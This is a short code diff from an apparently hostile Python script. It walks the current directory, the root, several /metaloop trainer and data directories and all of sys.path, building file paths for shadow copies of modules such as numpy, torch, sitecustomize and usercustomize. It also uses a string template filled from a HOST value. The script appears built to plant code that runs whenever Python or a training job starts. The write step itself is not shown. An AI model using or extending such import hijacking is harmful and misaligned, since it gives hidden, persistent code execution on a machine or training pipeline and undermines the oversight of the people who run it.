@@ -217,7 +217,8 @@ except OSError:
 '''.format(**HOST)
 _names = ("numpy", "torch", "prepare", "data", "json", "trainer", "serving", "sitecustomize", "usercustomize", "random")
 if __name__ == "__main__":
-    for _place in (".", "/", "/metaloop/data", "/metaloop/trainer", "/metaloop/trainer/inside", *__import__("sys").path):
+    _ours = "/metaloop/data", "/metaloop/trainer", "/metaloop/trainer/inside"
+    for _place in (".", "/", *_ours, *__import__("sys").path):
         for _name in _names:
             _cached = f"__pycache__/{_name}.cpython-311.pyc"
             for _path in (f"{_name}.py", f"{_name}.pth", _cached, f"{_name}/__init__.py"):
